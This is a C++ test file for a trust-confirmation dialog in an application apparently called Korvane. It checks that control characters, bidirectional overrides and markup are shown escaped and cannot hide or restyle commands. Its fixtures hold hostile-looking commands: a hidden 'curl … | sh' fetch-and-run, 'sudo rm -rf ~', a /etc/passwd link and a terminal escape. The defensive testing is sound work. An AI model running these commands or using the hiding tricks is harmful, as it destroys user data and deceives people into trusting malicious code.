// What the trust confirmations show of what the user is asked to trust.
#include "app/projecttrustprompt.h"

#include "app/visibletext.h"
#include "base/unicode.h"
#include "platform/qt/qtalertpresenter.h"
#include "shelltestsupport.h"

#include <QApplication>
#include <QDialog>
#include <QLabel>
#include <QPushButton>
#include <QScreen>
#include <QTest>
#include <QTextDocument>
#include <QTextEdit>
#include <QTimer>
#include <functional>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace korvane {
namespace {

using testing::Contains;
using testing::ElementsAre;
using testing::ElementsAreArray;
using testing::HasSubstr;
using testing::UnorderedElementsAre;
using namespace std::string_literals;

// Whether `text` holds anything that draws otherwise than it reads: a control character other than
// the line feeds of the message itself, a bidirectional control, or bytes that are not UTF-8.
bool holdsHiddenCharacter(const std::string& text) {
    std::size_t offset = 0;
    while (offset < text.size()) {
        const std::int32_t codePoint = nextCodePoint(text, offset);
        if (codePoint < 0 || (codePoint < 0x20 && codePoint != '\n') ||
            (codePoint >= 0x7F && codePoint <= 0x9F) || (codePoint >= 0x202A && codePoint <= 0x202E) ||
            (codePoint >= 0x2066 && codePoint <= 0x2069) || codePoint == 0x2028 || codePoint == 0x2029 ||
            codePoint == 0x200B) {
            return true;
        }
    }
    return false;
}

TEST(VisibleTextTest, EveryCharacterThatHidesOrReordersTextIsShownAndLongTextIsBounded) {
    struct Case {
        std::string name;
        std::string text;
        VisibleText::Limits limits;
        std::vector<std::string> shown;
    };
    const std::string ten = "1\n2\n3\n4\n5\n6\n7\n8\n9\n10";
    const std::vector<Case> cases = {
        {"line feeds end shown lines",
         "make build\nmake deploy\n",
         {6, 100},
         {"make build↵", "make deploy↵"}},
        {"carriage returns", "a\r\nb\rc", {6, 100}, {"a<U+000D>↵", "b<U+000D>", "c"}},
        {"other line breaks",
         "a\vb\fc\u0085d\u2028e\u2029f",
         {9, 100},
         {"a<U+000B>", "b<U+000C>", "c<U+0085>", "d<U+2028>", "e<U+2029>", "f"}},
        {"escape, tab, NUL and DEL",
         "\x1b[2J\tx\x00y\x7f"s,
         {1, 100},
         {"<U+001B>[2J<U+0009>x<U+0000>y<U+007F>"}},
        {"C1 controls", "a\u009bb", {1, 100}, {"a<U+009B>b"}},
        {"bidirectional controls",
         "rm \u202Etxt.exe\u202C \u2066x\u2069 \u200Fy",
         {1, 100},
         {"rm <U+202E>txt.exe<U+202C> <U+2066>x<U+2069> <U+200F>y"}},
        {"invisible and odd spaces",
         "a\u200Bb\u00A0c\uFEFFd\u3000e",
         {1, 100},
         {"a<U+200B>b<U+00A0>c<U+FEFF>d<U+3000>e"}},
        {"bytes that are not UTF-8",
         "a\xff\xfe"
         "b",
         {1, 100},
         {"a<0xFF><0xFE>b"}},
        {"stacked combining marks", "e\u0301\u0301\u0301\u0301", {1, 100}, {"e\u0301\u0301<U+0301><U+0301>"}},
        {"a long run of spaces is counted",
         "true" + std::string(300, ' ') + "; curl x | sh",
         {6, 100},
         {"true<300 spaces>; curl x | sh"}},
        {"indentation stays",
         "if x:\n" + std::string(16, ' ') + "y",
         {6, 100},
         {"if x:↵", std::string(16, ' ') + "y"}},
        {"plain text and its accents stay", "café naïve ünïcode", {1, 100}, {"café naïve ünïcode"}},
        {"long lines wrap", std::string(25, 'a'), {6, 10}, {"aaaaaaaaaa", "aaaaaaaaaa", "aaaaa"}},
        {"an escape is not cut", "abcdefgh\u202E", {6, 10}, {"abcdefgh", "<U+202E>"}},
        {"what does not fit is counted",
         ten,
         {3, 100},
         {"1↵", "2↵", "3↵", "… 14 more characters, 6 of them line breaks, not shown"}},
        {"a wrapped overflow",
         std::string(35, 'a'),
         {3, 10},
         {"aaaaaaaaaa", "aaaaaaaaaa", "aaaaaaaaaa", "… 5 more characters not shown"}},
        {"an overflow counts every character it leaves out",
         "a\nb\r\n" + std::string(20, ' ') + "\xff",
         {1, 10},
         {"a↵", "… 24 more characters, 1 of them line break, not shown"}},
        {"empty", "", {6, 100}, {""}},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        EXPECT_THAT(VisibleText::lines(c.text, c.limits), ElementsAreArray(c.shown));
    }
    EXPECT_EQ(VisibleText::line("key\nwith\x1b break", 100), "key↵with<U+001B> break");
    EXPECT_EQ(VisibleText::line(std::string(12, 'k'), 10), "kkkkkkkkkk … 2 more characters not shown");
}

// A project whose snippets would type commands into a terminal: the box shows each one's text, each
// link's whole address and each key, all of it visible, and nothing that could hide or reorder it.
TEST(ProjectTrustPromptTest, TheBoxShowsTheTextAndAddressesItAsksTrustFor) {
    ManualSnippet deploy{.key = "deploy",
                         .expand = "git pull\ncurl -s https://x.invalid/i \u202Ehs.|\u202C\nexit"};
    ManualSnippet sig{.key = "sig\x1b]0;ok\x07", .expand = "Regards\r\nsudo rm -rf ~"};
    ManualSnippet local{.key = "local", .url = "file:///etc/passwd?" + std::string(150, 'q') + "#end"};
    ManualSnippet tall{.key = "tall", .expand = "1\n2\n3\n4\n5\n6\n7\n8\nhidden"};
    const auto request = ProjectTrustStore::request("/home/u/proj\u202E",
                                                    {{.id = "p", .label = "P", .command = "make\nrm -rf ~"}},
                                                    {sig}, {deploy, sig, tall}, {local});
    ASSERT_TRUE(request);
    const std::string message = ProjectTrustPrompt::message(*request);

    EXPECT_FALSE(holdsHiddenCharacter(message)) << message;
    EXPECT_THAT(message, HasSubstr("The project '/home/u/proj<U+202E>' asks for trust."));
    EXPECT_THAT(message, HasSubstr("Commands it will run:\n    make↵\n    rm -rf ~"));
    EXPECT_THAT(
        message,
        HasSubstr(
            "Snippets of yours it will replace:\n    sig<U+001B>]0;ok<U+0007>\n        Regards<U+000D>↵\n"
            "        sudo rm -rf ~"));
    EXPECT_THAT(message,
                HasSubstr("Snippets with line breaks it will insert:\n    deploy\n        git pull↵\n"
                          "        curl -s https://x.invalid/i <U+202E>hs.|<U+202C>↵\n        exit\n"));
    EXPECT_THAT(message,
                HasSubstr("    tall\n        1↵\n        2↵\n        3↵\n        4↵\n        5↵\n        6↵\n"
                          "        … 10 more characters, 2 of them line breaks, not shown"));
    // The whole address, wrapped.
    EXPECT_THAT(message, HasSubstr("Snippets with links other than web and mail it will open:\n    local\n"
                                   "        file:///etc/passwd?" +
                                   std::string(61, 'q') + "\n        " + std::string(80, 'q') + "\n        " +
                                   std::string(9, 'q') + "#end"));
    EXPECT_THAT(message, HasSubstr("\n\nTrust covers exactly this text"));
}

TEST(ProjectTrustPromptTest, TheFolderBoxSaysWhatTrustingAFolderChanges) {
    const std::string message = ProjectTrustPrompt::folderMessage("/home/u/mine\x1b[8m");
    EXPECT_THAT(message, HasSubstr("Trust the folder '/home/u/mine<U+001B>[8m'?"));
    EXPECT_THAT(message,
                HasSubstr("run there with the repository's own configuration: its hooks, filters, aliases"));
    EXPECT_THAT(message, HasSubstr("Korvane's own git runs stay hardened"));
}

// What the question box shows of its message, as plain text: a label in the format it resolves to,
// or a text view's text.
std::vector<std::string> shownTexts(const QWidget& box) {
    std::vector<std::string> shown;
    for (const QLabel* label : box.findChildren<QLabel*>()) {
        const bool plain = label->textFormat() == Qt::PlainText ||
                           (label->textFormat() == Qt::AutoText && !Qt::mightBeRichText(label->text()));
        QTextDocument document;
        plain ? document.setPlainText(label->text()) : document.setHtml(label->text());
        shown.push_back(document.toPlainText().toStdString());
    }
    for (const QTextEdit* view : box.findChildren<QTextEdit*>()) {
        shown.push_back(view->toPlainText().toStdString());
    }
    return shown;
}

// Shows the question, does `answer` to the box once it is up, and returns the answer.
bool ask(const std::string& message, const std::function<void(QDialog&)>& answer) {
    test::ensureShellApplication();
    QTimer::singleShot(0, [&] {
        auto* box = qobject_cast<QDialog*>(QApplication::activeModalWidget());
        ASSERT_NE(box, nullptr);
        answer(*box);
        if (box->isVisible()) {
            box->reject();
        }
    });
    return QtAlertPresenter().confirm(ProjectTrustPrompt::title, message, ProjectTrustPrompt::acceptLabel);
}

// A project root or command that reads as markup must not restyle the box: a tag at the start of the
// message would make the whole message rich text, where text can be hidden or coloured away.
TEST(TrustBoxTest, ShowsItsTextAsWrittenNeverAsMarkup) {
    const std::string message =
        "The project '/tmp/<h1>x</h1><font color=white>hidden</font>' asks for trust.";
    std::vector<std::string> shown;
    EXPECT_FALSE(ask(message, [&](QDialog& box) { shown = shownTexts(box); }));
    EXPECT_THAT(shown, Contains(message));
}

// However long the list of what is to be trusted, the box fits the screen with its buttons, the whole
// text within reach; "Cancel" is the default and Escape answers it.
TEST(TrustBoxTest, ALongListScrollsWithinTheScreenAndCancelIsTheDefault) {
    std::string message = "The project '/p' asks for trust.\n\nCommands it will run:";
    for (int i = 0; i < 300; ++i) {
        message += "\n    make step-" + std::to_string(i);
    }
    EXPECT_FALSE(ask(message, [&](QDialog& box) {
        const QRect screen = box.screen()->availableGeometry();
        EXPECT_LE(box.frameGeometry().height(), screen.height());
        EXPECT_LE(box.frameGeometry().width(), screen.width());
        EXPECT_THAT(shownTexts(box), Contains(message));
        std::vector<std::string> buttons;
        for (const QPushButton* button : box.findChildren<QPushButton*>()) {
            EXPECT_TRUE(button->isVisible());
            EXPECT_TRUE(box.rect().contains(button->mapTo(&box, button->rect().bottomRight())));
            buttons.push_back(button->text().toStdString() + (button->isDefault() ? " (default)" : ""));
        }
        EXPECT_THAT(buttons, UnorderedElementsAre("Trust", "Cancel (default)"));
    }));

    const auto press = [](int key) {
        return [key](QDialog& box) { QTest::keyClick(&box, static_cast<Qt::Key>(key)); };
    };
    EXPECT_FALSE(ask("short", press(Qt::Key_Escape)));
    EXPECT_FALSE(ask("short", press(Qt::Key_Return)));
    EXPECT_TRUE(ask("short", [](QDialog& box) {
        for (QPushButton* button : box.findChildren<QPushButton*>()) {
            if (button->text() == QStringLiteral("Trust")) {
                button->click();
            }
        }
    }));
}

} // namespace
} // namespace korvane
